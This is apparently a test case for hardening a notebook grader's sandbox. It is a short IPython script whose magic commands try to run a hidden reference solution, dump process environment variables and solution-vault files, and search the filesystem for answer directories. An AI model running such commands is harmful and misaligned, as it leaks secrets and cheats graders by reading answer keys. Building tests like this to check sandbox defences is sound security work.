# /// attack
# does = "runs files and programs by magics"
# wall = "mounts"
# notebook = "error"
# ///
# %%
get_ipython().run_line_magic("run", "/solutions/vault/reference.py")
# %%
get_ipython().system("cat /proc/*/environ /solutions/vault/* ../../solutions/vault/* 2>&1; id; ls /")
get_ipython().run_cell_magic("bash", "", "find / -maxdepth 2 -name solutions 2>/dev/null | sed s/^/GAINED/")
